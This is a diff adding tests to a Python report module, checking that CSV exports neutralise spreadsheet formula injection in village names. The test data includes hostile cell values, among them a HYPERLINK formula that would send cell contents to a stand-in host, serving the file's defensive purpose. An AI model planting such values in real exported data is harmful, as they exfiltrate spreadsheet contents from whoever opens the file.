@@ -3,15 +3,18 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
 from typing import ClassVar
 
+import pytest
+
 from firmware.sim import demo_world, resident_of
 from provisioning.collector import CollectorDB
 from provisioning.collector_audit import CollectedRecord, audit_database
-from provisioning.report import OVERALL, Row, build_report, to_csv, to_json
+from provisioning.report import FORMULA_STARTS, OVERALL, Row, build_report, to_csv, to_json
 from storage.keys import Authority
 
 
@@ -55,3 +58,26 @@ def test_voids_and_cards_count_within_their_own_chain() -> None:
     kit = rows["K1"]
     assert (kit.recorded, kit.printed, kit.exceptions) == (2, 1, 1), "old 1 and new 3 count"
     assert rows[OVERALL].recorded == 2
+
+
+@pytest.mark.parametrize(
+    "village",
+    ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"],
+)
+def test_a_village_name_never_becomes_a_spreadsheet_formula(village: str) -> None:
+    residents = tuple(
+        dataclasses.replace(resident_of(person), village=village)
+        for person in demo_world(1).residents[:3]
+    )
+    rows = build_report(Reflashed(), residents)
+    parsed = list(csv.reader(io.StringIO(to_csv(rows), newline="")))
+    names = [cells[1] for cells in parsed if cells[0] == "village"]
+    assert "'" + village in names, "the cell is text that shows what the village sheet said"
+    assert not any(cell.startswith(FORMULA_STARTS) for cells in parsed[1:] for cell in cells)
+    overall = next(cells for cells in parsed if cells[0] == "overall")
+    assert overall[2] == "3", "numbers stay numbers"
+
+
+def test_the_csv_of_a_report_without_worklist_has_no_dash_cells() -> None:
+    parsed = list(csv.DictReader(io.StringIO(to_csv(build_report(Reflashed())))))
+    assert parsed and all(row["share_text"] == "" for row in parsed)
